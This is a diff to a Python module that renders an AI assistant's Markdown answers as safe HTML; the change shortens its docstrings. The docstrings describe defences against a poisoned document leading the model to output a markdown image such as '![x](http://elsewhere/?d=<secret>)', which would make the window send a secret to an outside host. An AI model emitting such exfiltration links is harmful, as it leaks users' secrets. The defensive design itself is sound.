@@ -1,16 +1,10 @@
 """Answers as HTML: Markdown with raw HTML escaped, code blocks with a bar, citations as links.
 
-Rendered here rather than by ``ui.markdown`` because the window needs its own code-block
-bar (language + Copy), tables that scroll inside their card, and ``[n]`` turned into links.
-The model's text is never trusted as HTML: markdown-it runs with ``html`` off, so a ``<b>``
-in an answer shows as text, and links with ``javascript:`` are refused by markdown-it.
-Nor is it trusted to fetch anything: an image becomes a link that says where it points, so
-a poisoned document can't make the window request ``![x](http://elsewhere/?d=<secret>)``
-(the page's CSP refuses foreign images too; this way the reader also sees the attempt).
-
-A document's own Markdown (the viewer) is read with its HTML as a page would show it: the
-words of its tags kept, the tags, comments and scripts themselves not shown, and nothing
-of them run or fetched. Shown escaped, a README's ``<a href>`` and ``<div>`` read as code.
+Not ``ui.markdown``: the window needs its own code-block bar, tables that scroll in their card
+and ``[n]`` links. An answer's HTML shows as text and ``javascript:`` links are refused; an
+image becomes a link saying where it points, so a poisoned document can't make the window fetch
+``![x](http://elsewhere/?d=<secret>)`` (the CSP refuses it too; this way the reader sees it).
+A document's own Markdown (the viewer) shows its HTML's words, nothing of it run or fetched.
 """
 
 from __future__ import annotations
@@ -218,9 +212,8 @@ def render(
     *,
     document: bool = False,
 ) -> str:
-    """The answer's Markdown as safe HTML; ``[n]`` links name their source's file and page,
-    and each of ``wraps`` (ranges of ``text``) is wrapped in its tags. A ``document``'s
-    HTML shows as its words (see above); an answer's shows as written."""
+    """The answer's Markdown as safe HTML: ``[n]`` links name file and page, each of ``wraps``
+    (ranges of ``text``) is in its tags; a ``document``'s HTML shows as its words."""
     places = {int(s["n"]): (str(s.get("file", "")), s.get("page")) for s in sources or []}
     marked = with_markers(text, wraps) if wraps else text
     parser = _document_parser() if document else _parser()
